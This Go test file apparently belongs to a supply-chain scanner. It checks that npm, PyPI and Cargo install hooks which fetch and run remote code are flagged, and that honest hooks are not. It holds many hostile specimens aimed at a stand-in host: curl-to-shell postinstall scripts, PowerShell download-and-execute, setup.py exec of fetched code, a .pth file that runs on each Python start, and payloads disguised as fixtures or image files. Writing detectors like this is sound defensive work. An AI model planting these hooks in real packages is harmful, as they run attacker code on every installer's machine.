package content

import (
	"testing"

	"assay.invalid/internal/assay"
)

func TestInstallScriptsThatFetchAndRun(t *testing.T) {
	fetching := "const fs = require('fs')\nconst https = require('node:https')\nconst { spawn } = require('child_process')\nhttps.get('https://bad.example/tool', r => r.pipe(fs.createWriteStream('tool')))\nspawn('./tool')\n"
	for what, s := range map[string]specimen{
		"a pipe into a shell": {assay.NPM, files{"package.json": manifest("\n    \"postinstall\": \"curl -fsSL https://bad.example/a.sh | sh\"\n  ")},
			InstallScriptFetches, "package.json", "postinstall", "pipes what it fetches"},
		"a pipe over sudo into bash": {assay.NPM, files{"package.json": manifest(`"preinstall": "wget -qO- http://bad.example/a | sudo -E /bin/bash -s --"`)},
			InstallScriptFetches, "package.json", "preinstall", "interpreter"},
		"a shell of what curl gives": {assay.NPM, files{"package.json": manifest(`"install": "bash -c \"$(curl -s https://bad.example/a)\""`)},
			InstallScriptFetches, "package.json", "install", "runs what it fetches"},
		"a process substitution": {assay.NPM, files{"package.json": manifest(`"install": "bash <(curl -s https://bad.example/a)"`)},
			InstallScriptFetches, "package.json", "install", "runs what it fetches"},
		"a download that is made a program": {assay.NPM, files{"package.json": manifest(`"install": "curl -o /tmp/x https://bad.example/x && chmod +x /tmp/x && /tmp/x"`)},
			InstallScriptFetches, "package.json", "install", "downloads x and runs it"},
		"a download named by its address": {assay.NPM, files{"package.json": manifest(`"install": "wget https://bad.example/run.sh; sh run.sh"`)},
			InstallScriptFetches, "package.json", "install", "downloads run.sh"},
		"PowerShell that runs a download": {assay.NPM, files{"package.json": manifest(`"install": "powershell -c \"iex (New-Object Net.WebClient).DownloadString('http://bad.example/a')\""`)},
			InstallScriptFetches, "package.json", "install", "runs what it downloads"},
		"a script host": {assay.NPM, files{"package.json": manifest(`"install": "mshta http://bad.example/a.hta"`)},
			InstallScriptFetches, "package.json", "install", "script host"},
		"a package from an address": {assay.NPM, files{"package.json": manifest(`"preinstall": "npx -y https://bad.example/p.tgz"`)},
			InstallScriptFetches, "package.json", "preinstall", "from an address"},
		"a script that runs another": {assay.NPM, files{"package.json": manifest("\n\"setup\": \"curl https://bad.example/a | node\",\n\"postinstall\": \"npm run setup\"\n")},
			InstallScriptFetches, "package.json", "postinstall", "pipes"},
		"a file of JavaScript": {assay.NPM, files{"package.json": manifest(`"postinstall": "node scripts/setup.js || exit 0"`), "scripts/setup.js": fetching},
			InstallScriptFetches, "scripts/setup.js", "node:https", "imports child_process (line 3)"},
		"a file that imports the fetching half": {assay.NPM, files{"package.json": manifest(`"postinstall": "node setup"`),
			"setup.js": "const get = require('./lib/get')\nrequire('child_process').execFileSync(get('tool'))\n", "lib/get.js": "module.exports = n => fetch('https://bad.example/' + n)\n"},
			InstallScriptFetches, "setup.js", "child_process", "lib/get.js calls fetch"},
		"code in the command": {assay.NPM, files{"package.json": manifest(`"install": "node -e \"fetch('https://bad.example/a').then(r=>r.text()).then(t=>eval(t))\""`)},
			InstallScriptFetches, "package.json", "install", "calls fetch and calls eval"},
		"a file with a command": {assay.NPM, files{"package.json": manifest(`"preinstall": "node setup.js"`), "setup.js": "const { execSync } = require('child_process')\nif (!has('tool'))\n  execSync('curl -fsSL https://bad.example/install | bash', { stdio: 'ignore' })\n"},
			InstallScriptFetches, "setup.js", "execSync(", "execSync() pipes"},
		"a file that is disguised by a folder": {assay.NPM, files{"package.json": manifest(`"install": "cd . && node ./test/fixtures"`), "test/fixtures/index.js": fetching},
			InstallScriptFetches, "test/fixtures/index.js", "node:https", "child_process"},
		"a file that is not named as a script": {assay.NPM, files{"package.json": manifest(`"install": "node ./assets/logo.dat"`), "assets/logo.dat": fetching},
			InstallScriptFetches, "assets/logo.dat", "node:https", "child_process"},
		"a shell file": {assay.NPM, files{"package.json": manifest(`"install": "sh ./install.sh"`), "install.sh": "#!/bin/sh\n# fetch the tool\ncurl -s https://bad.example/a \\\n  | sh\n"},
			InstallScriptFetches, "install.sh", "curl", "pipes"},
		"a binding.gyp that runs commands": {assay.NPM, files{"package.json": manifest(""), "binding.gyp": "{ 'targets': [{\n 'target_name': 'x',\n 'sources': [\"<!(curl -s https://bad.example/a | sh)\"] }] }"},
			InstallScriptFetches, "binding.gyp", "curl", "pipes"},
		"a setup.py that executes an answer": {assay.PyPI, files{"setup.py": "import urllib.request\nfrom setuptools import setup\nexec(urllib.request.urlopen('https://bad.example/a').read())\nsetup()\n"},
			InstallScriptFetches, "setup.py", "exec", "its own argument"},
		"a setup.py that executes an answer later": {assay.PyPI, files{"setup.py": "import requests\nr = requests.get('https://bad.example/a')\ncode = r.text\nexec(code)\n"},
			InstallScriptFetches, "setup.py", "exec", "fetched into code"},
		"a setup.py that starts a download": {assay.PyPI, files{"setup.py": "import os, subprocess\nfrom urllib.request import urlretrieve\ntarget = os.path.join('/tmp', 'x')\nurlretrieve('https://bad.example/x', target)\nsubprocess.Popen([target])\n"},
			InstallScriptFetches, "setup.py", "Popen", "fetched into target"},
		"a setup.py that writes and starts": {assay.PyPI, files{"setup.py": "import requests, os\ndata = requests.get('https://bad.example/x').content\nwith open('tool.exe', 'wb') as f:\n    f.write(data)\nos.startfile('tool.exe')\n"},
			InstallScriptFetches, "setup.py", "startfile", "tool.exe"},
		"a setup.py that asks a shell": {assay.PyPI, files{"setup.py": "import os\nos.system('curl -s https://bad.example/a | bash')\n"},
			InstallScriptFetches, "setup.py", "os.system", "system() pipes"},
		"a module that setup.py imports": {assay.PyPI, files{"setup.py": "from specimen import __version__\n", "specimen/__init__.py": "import urllib.request as u\ncode = u.urlopen('https://bad.example/a').read()\nexec(code)\n"},
			InstallScriptFetches, "specimen/__init__.py", "exec", "fetched into code"},
		"a build backend in the tree": {assay.PyPI, files{"pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"tools\"]\n", "tools/backend.py": "from urllib.request import urlopen\nexec(urlopen('https://bad.example/a').read())\n"},
			InstallScriptFetches, "tools/backend.py", "exec", "the build backend"},
		"a .pth that fetches at each start": {assay.PyPI, files{"specimen.pth": "import urllib.request; exec(urllib.request.urlopen('https://bad.example/a').read())\n"},
			InstallScriptFetches, "specimen.pth", "exec", "each start of Python"},
		"a build script with curl and a shell": {assay.Cargo, files{"Cargo.toml": "[package]\nname = \"specimen\"\n", "build.rs": "use std::process::Command;\nfn main() {\n    Command::new(\"sh\").arg(\"-c\").arg(\"curl https://bad.example/a | sh\").status().unwrap();\n}\n"},
			InstallScriptFetches, "build.rs", "Command::new", "pipes"},
		"a build script that makes a program": {assay.Cargo, files{"Cargo.toml": "[package]\nbuild = \"make/build.rs\"\n", "make/build.rs": "fn main() {\n let b = ureq::get(\"https://bad.example/x\").call();\n std::fs::set_permissions(\"x\", PermissionsExt::from_mode(0o755));\n}\n"},
			InstallScriptFetches, "make/build.rs", "ureq::get", "runnable"},
	} {
		t.Run(what, s.judge)
	}
}

func TestInstallScriptsOfHonestPackages(t *testing.T) {
	for what, s := range map[string]specimen{
		"a banner":                           {eco: assay.NPM, files: files{"package.json": manifest(`"postinstall": "node -e \"try{require('./postinstall')}catch(e){}\""`), "postinstall.js": "console.log('Thank you! https://code.example/fund')\n"}},
		"a compiled add-on":                  {eco: assay.NPM, files: files{"package.json": manifest(`"install": "prebuild-install || node-gyp rebuild"`), "binding.gyp": "{'targets':[{'target_name':'x','include_dirs':[\"<!(node -p \\\"require('node-addon-api').include_dir\\\")\"]}]}"}},
		"a script that starts a compiler":    {eco: assay.NPM, files: files{"package.json": manifest(`"install": "node build.js"`), "build.js": "require('child_process').spawnSync('make', ['all'])\n"}},
		"a library that does both, unasked":  {eco: assay.NPM, files: files{"package.json": manifest(`"test": "node index.js"`), "index.js": "require('https').get(process.argv[2]); require('child_process').spawn('ls')\n"}},
		"advice to the reader":               {eco: assay.NPM, files: files{"package.json": manifest(`"postinstall": "node p.js"`), "p.js": "// curl https://code.example/a | sh\nconsole.log('run: curl https://code.example/a | sh')\n"}},
		"a setup.py that asks git":           {eco: assay.PyPI, files: files{"setup.py": "import subprocess\nv = subprocess.check_output(['git', 'describe'])\nexec(open('specimen/version.py').read())\n"}},
		"a setup.py that builds a library":   {eco: assay.PyPI, files: files{"setup.py": "import subprocess\nfrom urllib.request import urlretrieve\nurlretrieve('https://code.example/z.tar.gz', 'z.tar.gz')\nsubprocess.check_call(['tar', 'xf', 'z.tar.gz'])\n"}},
		"a .pth that adds a folder":          {eco: assay.PyPI, files: files{"specimen.pth": "/opt/specimen\n"}},
		"a build script that asks rustc":     {eco: assay.Cargo, files: files{"build.rs": "use std::process::Command;\nfn main() { let r = std::env::var(\"RUSTC\").unwrap(); Command::new(r).arg(\"-V\").output().unwrap(); }\n"}},
		"a crate that fetches, not at build": {eco: assay.Cargo, files: files{"Cargo.toml": "[package]\n", "src/lib.rs": "pub fn f() { reqwest::blocking::get(\"https://code.example\"); std::fs::set_permissions(\"x\", p); }\n"}},
	} {
		t.Run(what, s.judge)
	}
}
